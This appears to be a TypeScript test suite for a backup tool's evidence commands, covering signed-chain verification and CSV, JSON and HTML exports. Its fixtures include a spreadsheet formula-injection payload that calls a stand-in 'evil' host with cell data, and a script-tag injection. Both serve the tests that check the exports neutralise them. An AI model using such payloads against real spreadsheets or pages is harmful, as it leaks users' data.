import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { recordEvidence } from '#catalog/evidence';
import { signEvidence } from '#catalog/sign-evidence';
import { type Ended, runLifeboat } from '#harness/run-lifeboat';
import { deed } from '#harness/signed-evidence';
import type { Deed } from '#model/evidence';
import { createSigningKey, openSigningKey } from '#runtime/signing-key';
import { createDirectoryStore } from '#store/directory-store';
import type { ObjectStore } from '#store/object-store';

const approval = { decision: 'approve', by: 'Grace', at: '2026-11-20T05:00:00.000Z', reason: '=1+1' } as const;
const deeds: Deed[] = [
  deed('arn:1 backed up orders', {
    when: '2026-11-19T02:00:00.000Z',
    startedAt: '2026-11-19T01:59:00.000Z',
    durationMs: 60_000,
    from: 'db-host',
    details: {
      kind: 'backup',
      object: '20261119T015900000Z-full',
      storedAt: '/b/orders/backups/20261119T015900000Z-full/',
      bytes: 123,
      verification: null,
    },
  }),
  deed('arn:2 not backed up orders', { when: '2026-11-19T23:59:59.500Z', outcome: 'failed' }),
  deed('arn:3 restored', {
    who: '=HYPERLINK("http://evil/?"&A1,"x")',
    what: '<script>alert(1)</script> & "quoted", with\nlines',
    planHash: 'ab',
    approval,
    approvals: [{ ...approval, by: '@cmd', reason: null }, approval],
    details: {
      kind: 'restore',
      from: '20261119T015900000Z-full',
      to: '/srv/restored',
      target: 'latest',
      reached: '0/3000060',
      verification: 'checks: 2 of 2',
    },
  }),
  deed('rekey/orders', { who: ' \t=1', when: '2026-11-21T00:00:00.000Z' }),
];

let folder: string;
let store: ObjectStore;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'lifeboat-evidence-'));
  store = await createDirectoryStore(join(folder, 'bucket'));
  await createSigningKey(join(folder, 'evidence.key'));
  for (const one of deeds) await recordEvidence(store, one);
  await signEvidence(store, await openSigningKey(join(folder, 'evidence.key')), new Date());
});
after(() => rmSync(folder, { recursive: true }));
beforeEach(() => writePlan('evidence: { signingKey: ./evidence.key }\n'));

const writePlan = (lines: string) =>
  writeFileSync(
    join(folder, 'plan.yml'),
    `bucket: ./bucket\nencryption: none\nsources: { orders: { connection: { host: localhost, user: backup } } }\n${lines}`,
  );

async function lifeboat(args: string[], code = 0): Promise<Ended> {
  const ended = await runLifeboat(args, { cwd: folder, env: {} });
  assert.equal(ended.exitCode, code, `${ended.stdout}\n${ended.stderr}`);
  return ended;
}

/** What RFC 4180 says, and nothing else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let rest = text;
  while (rest !== '') {
    const [whole, value, end] = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest) ?? assert.fail(rest.slice(0, 50));
    row.push(value!.replaceAll('""', '"'));
    rest = rest.slice(whole.length);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

const records = (text: string): Record<string, string>[] => {
  const [columns, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(row.map((value, index) => [columns![index], value])));
};
const csv = async (...args: string[]) => records((await lifeboat(['evidence', 'export', ...args])).stdout);

describe('lifeboat evidence', () => {
  test('lists the newest, and below it `verify` and `export` are commands of their own', async () => {
    const { stdout } = await lifeboat(['evidence', '--limit', '2']);
    assert.match(stdout, /^3 .*\n.*\n?4 .*/);
    assert.match(
      stdout,
      /\n4 records, an unbroken chain\n1 signed heads, the newest of .* by sha256:[0-9a-f]{64}; 0 records since\n$/,
    );
    const { stderr } = await lifeboat(['evidence', 'verfiy'], 2);
    assert.match(stderr, /verfiy|too many arguments/);
  });

  test('verify takes the public key alone where the private one is not', async () => {
    writePlan('');
    const unsigned = await lifeboat(['evidence', 'verify']);
    assert.match(
      unsigned.stdout,
      /1 signed heads, whose keys nobody here vouches for: name them with --public-key FILE/,
    );
    const { stdout } = await lifeboat(['evidence', 'verify', '--public-key', 'evidence.key.pub', '--json']);
    const { ok, heads } = JSON.parse(stdout);
    assert.deepEqual([ok, heads.trusted, heads.newest.sequence], [true, true, 4]);
    writePlan('evidence: { signingKey: ./elsewhere.key }\n');
    writeFileSync(join(folder, 'elsewhere.key.pub'), readFileSync(join(folder, 'evidence.key.pub')));
    assert.equal(JSON.parse((await lifeboat(['evidence', 'verify', '--json'])).stdout).ok, true);
  });

  test('verify with the key of somebody else names the head, and a private key is refused', async () => {
    await createSigningKey(join(folder, 'other.key'));
    const { stdout } = await lifeboat(['evidence', 'verify', '--public-key', 'other.key.pub'], 6);
    assert.match(
      stdout,
      /THE EVIDENCE IS NOT AS IT WAS WRITTEN; good are the first 4 records\nHEAD FORGED: evidence-heads\//,
    );
    const { stderr } = await lifeboat(['evidence', 'verify', '--public-key', 'other.key'], 8);
    assert.match(stderr, /holds a private key/);
  });
});

describe('lifeboat evidence export', () => {
  test('as CSV gives back every field, with no formula in it', async () => {
    const rows = await csv('--format', 'csv');
    assert.deepEqual(
      rows.map(({ sequence, kind }) => [sequence, kind]),
      [
        ['1', 'backup'],
        ['2', 'backup'],
        ['3', 'restore'],
        ['4', 'other'],
      ],
    );
    assert.equal(rows[2]!.who, `'${deeds[2]!.who}`);
    assert.equal(rows[2]!.what, deeds[2]!.what);
    assert.equal(rows[3]!.who, `' \t=1`);
    for (const row of rows) for (const value of Object.values(row)) assert.doesNotMatch(value, /^\s*[=+\-@]/);
  });

  test('of backups has who, what, when, where it is stored and how it was verified', async () => {
    const [first, second, ...more] = await csv('--what', 'backups');
    assert.deepEqual(first, {
      ...{ sequence: '1', when: '2026-11-19T02:00:00.000Z', who: 'ada', from: 'db-host', source: 'orders' },
      ...{ what: 'did arn:1 backed up orders', outcome: 'succeeded', object: '20261119T015900000Z-full' },
      ...{ 'stored at': '/b/orders/backups/20261119T015900000Z-full/', bytes: '123', verification: '' },
      ...{ 'started at': '2026-11-19T01:59:00.000Z', 'duration (s)': '60.000', execution: '' },
    });
    assert.deepEqual([second!.outcome, second!.object, more], ['failed', '', []]);
  });

  test('of restores has the whole approval chain, and of approvals a row for each answer', async () => {
    const [restore] = await csv('--what', 'restores');
    assert.equal(
      restore!['approval chain'],
      'approve by @cmd at 2026-11-20T05:00:00.000Z: no reason given; approve by Grace at 2026-11-20T05:00:00.000Z: "=1+1"',
    );
    assert.deepEqual(
      [restore!.to, restore!.verification, restore!['plan hash']],
      ['/srv/restored', 'checks: 2 of 2', 'ab'],
    );
    const answers = await csv('--what', 'approvals');
    assert.deepEqual(
      answers.map((row) => [row['answered by'], row.reason]),
      [
        ["'@cmd", ''],
        ['Grace', "'=1+1"],
      ],
    );
  });

  test('takes days whole, and instants as they are', async () => {
    const sequences = async (...args: string[]) => (await csv(...args)).map(({ sequence }) => sequence);
    assert.deepEqual(await sequences('--from', '2026-11-19', '--to', '2026-11-19'), ['1', '2']);
    assert.deepEqual(await sequences('--from', '2026-11-19T02:00:00.001Z', '--to', '2026-11-20'), ['2', '3']);
    assert.deepEqual(await sequences('--to', '2026-11-21T00:00:00Z'), ['1', '2', '3', '4']);
    for (const [option, value] of [
      ['--from', '2026-02-31'],
      ['--to', 'today'],
      ['--format', 'pdf'],
      ['--what', 'dumps'],
    ] as const) {
      assert.match((await lifeboat(['evidence', 'export', option, value], 2)).stderr, new RegExp(option));
    }
    await lifeboat(['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-19'], 2);
  });

  test('as JSON has the records as they were recorded, and what the check said', async () => {
    const { stdout } = await lifeboat([
      'evidence',
      'export',
      '--format',
      'json',
      '--from',
      '2026-11-20',
      '--to',
      '2026-11-20',
    ]);
    const exported = JSON.parse(stdout);
    assert.deepEqual([exported.format, exported.what, exported.check.ok], ['lifeboat-evidence-export/1', 'all', true]);
    const { sequence, previous, format, ...own } = exported.records[0];
    assert.deepEqual([format, sequence, typeof previous], ['lifeboat-evidence/1', 3, 'string']);
    assert.deepEqual(own, deeds[2]);
    assert.equal(exported.rows[0].who, deeds[2]!.who);
  });

  test('as HTML is one file in which what people wrote is text', async () => {
    await lifeboat(['evidence', 'export', '--format', 'html', '--what', 'restores', '--file', 'restores.html']);
    const page = readFileSync(join(folder, 'restores.html'), 'utf8');
    assert.doesNotMatch(page, /<script|\b(?:src|href)=|javascript:|@import|url\(/i);
    assert.match(
      page,
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">/,
    );
    const read = (text: string) =>
      text.replace(
        /&(lt|gt|quot|#39|amp);/g,
        (_, name: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[name]!,
      );
    const cells = [...page.matchAll(/<td>([^<]*)<\/td>/g)].map(([, cell]) => read(cell!));
    assert.ok(cells.includes(deeds[2]!.what) && cells.includes(deeds[2]!.who));
    assert.match(page, /4 records, an unbroken chain/);
    const { stderr } = await lifeboat(['evidence', 'export', '--file', 'restores.html'], 2);
    assert.match(stderr, /a file that is not there yet/);
  });

  test('of evidence that was changed is written up to there, says so, and ends with 6', async () => {
    const path = join(folder, 'bucket', 'evidence', '000000000003.json');
    const whole = readFileSync(path);
    writeFileSync(path, whole.toString().replace('/srv/restored', '/srv/elsewhere'));
    try {
      const { stdout, stderr } = await lifeboat(['evidence', 'export'], 6);
      assert.equal(records(stdout).length, 2);
      assert.match(stderr, /CHANGED: evidence\/000000000003\.json was changed/);
      const { stdout: told } = await lifeboat(['evidence'], 6);
      assert.match(told, /NOT AS IT WAS WRITTEN/);
    } finally {
      writeFileSync(path, whole);
    }
  });
});
